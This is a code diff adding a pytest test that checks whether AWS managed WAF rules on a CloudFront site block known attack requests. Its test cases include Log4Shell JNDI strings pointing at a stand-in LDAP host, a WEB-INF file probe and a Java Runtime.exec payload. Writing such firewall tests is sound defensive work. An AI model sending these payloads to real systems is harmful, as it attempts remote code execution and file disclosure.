@@ -264,6 +264,40 @@ def test_each_distribution_has_a_port_of_its_own(site: Site, cloud: Cloud) -> No
     assert (path, headers["host"]) == ("/graphql?a=1", site.domain)
 
 
+@pytest.mark.parametrize(
+    ("bad", "more"),
+    [
+        (True, {"path": "/WEB-INF/web.xml"}),
+        (True, {"path": "/?q=%24%7Bjndi%3Aldap%3A%2F%2Fexample.com%2F%7D"}),
+        (True, {"headers": {"User-Agent": "${jndi:ldap://example.com/}"}}),
+        (True, {"method": "POST", "data": b'(java.lang.Runtime).getRuntime().exec("whoami")'}),
+        (False, {"path": "/web-info?q=jndi", "method": "POST", "data": b"{ datasets { title } }" * 2_000}),
+    ],
+    ids=str,
+)
+def test_what_awss_rules_know_as_attacks(site: Site, bad: bool, more: dict[str, Any]) -> None:
+    waf = site.cloud.client("wafv2", region_name="us-east-1")
+    seen = {"SampledRequestsEnabled": False, "CloudWatchMetricsEnabled": False, "MetricName": "a"}
+
+    def rule(name: str, action: str) -> dict[str, Any]:
+        statement = {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": name}}
+        return {"Name": name, "Statement": statement, "OverrideAction": {action: {}}, "VisibilityConfig": seen}
+
+    def acl(action: str) -> str:
+        groups = ("AWSManagedRulesAmazonIpReputationList", "AWSManagedRulesKnownBadInputsRuleSet")
+        rules = [{**rule(name, action), "Priority": number} for number, name in enumerate(groups)]
+        given = {"Scope": "CLOUDFRONT", "DefaultAction": {"Allow": {}}, "VisibilityConfig": seen, "Rules": rules}
+        made = waf.create_web_acl(Name=site.cloud.name("acl"), **given)["Summary"]
+        assert waf.get_web_acl(Name=made["Name"], Id=made["Id"], Scope="CLOUDFRONT")["WebACL"]["Capacity"] == 225
+        return str(made["ARN"])
+
+    for action, blocked in (("None", bad), ("Count", False)):
+        site.change(WebACLId=acl(action))
+        answer = site.ask(**more)
+        assert (answer.status_code, len(site.program.asked)) == ((403, 0) if blocked else (200, 1))
+        site.program.asked.clear()
+
+
 def closed(site: Site) -> Callable[[], None]:
     """Lets nobody through to the load balancer; the answer opens it again."""
     [rule] = site.network.ec2.describe_security_groups(GroupIds=[site.network.group])["SecurityGroups"]
